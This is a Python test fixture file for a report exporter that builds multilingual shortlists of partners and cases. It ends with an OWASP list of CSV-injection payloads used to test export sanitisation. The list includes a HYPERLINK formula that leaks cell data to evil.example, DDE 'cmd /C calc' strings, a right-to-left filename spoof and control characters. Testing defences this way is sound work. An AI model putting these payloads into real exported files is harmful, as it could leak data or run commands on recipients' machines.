"""A shortlist of 25 partners and 40 cases of the real corpus, as a report in each language."""

from __future__ import annotations

import datetime as dt
from collections import Counter

import pytest

from matcher.export.compose import Composer
from matcher.export.report import Report
from matcher.workspace.shortlist import Entry, Shortlist

MOMENT = dt.datetime(2026, 11, 28, 9, 30, tzinfo=dt.UTC)
NOTE = "Treffen in Hannover\n面談は4月"


def entry(number, kind, ref, **changes) -> Entry:
    values = {"note": "", "rating": None, "status": "to_contact", "version": 1, "changed_by": "Anna"}
    return Entry(id=number, kind=kind, ref=ref, position=number, changed_at=MOMENT, **{**values, **changes})


def shortlist_of(entries, **changes) -> Shortlist:
    values = {"id": 1, "name": "Flood 水害 Hochwasser", "need": "Pegelsensoren an Bächen", "language": "de"}
    return Shortlist(
        version=1, created_by="Anna", created_at=MOMENT, changed_by="Anna", changed_at=MOMENT,
        entries=tuple(entries), **{**values, **changes},
    )  # fmt: skip


@pytest.fixture(scope="session")
def shortlist(corpus) -> Shortlist:
    counts = Counter(item.organisation for case in corpus.cases.values() for item in case.organisations)
    partners = [name for name, _ in counts.most_common(25)]
    cases = [*list(corpus.cases)[:20], *list(corpus.cases)[-20:]]
    refs = [("organisation", name) for name in partners] + [("case", name) for name in cases]
    (kind, ref), *others = refs
    first = entry(1, kind, ref, note=NOTE, rating=4, status="meeting")
    return shortlist_of([first, *(entry(number, *one) for number, one in enumerate(others, start=2))])


@pytest.fixture(scope="session", params=["ja", "de", "en"])
def report(request, corpus, shortlist) -> Report:
    return Composer(corpus, request.param, made_by="AHK Japan", clock=lambda: MOMENT).shortlist(shortlist)


@pytest.fixture
def report_en(corpus, shortlist) -> Report:
    return Composer(corpus, "en", made_by="AHK Japan", clock=lambda: MOMENT).shortlist(shortlist)


OWASP = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '";=1+1;"',
    "',=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=1+1\x00",
    "\x01\x02=1+1",
    "bell\x07 and \x1b[31mescape\x9b",
    "name\u202egnp.exe",
    "broken \ud800 surrogate",
    "not a character \ufffe",
]
"""Formulas in all their openings (OWASP, CSV Injection), and characters that break files or mislead readers."""
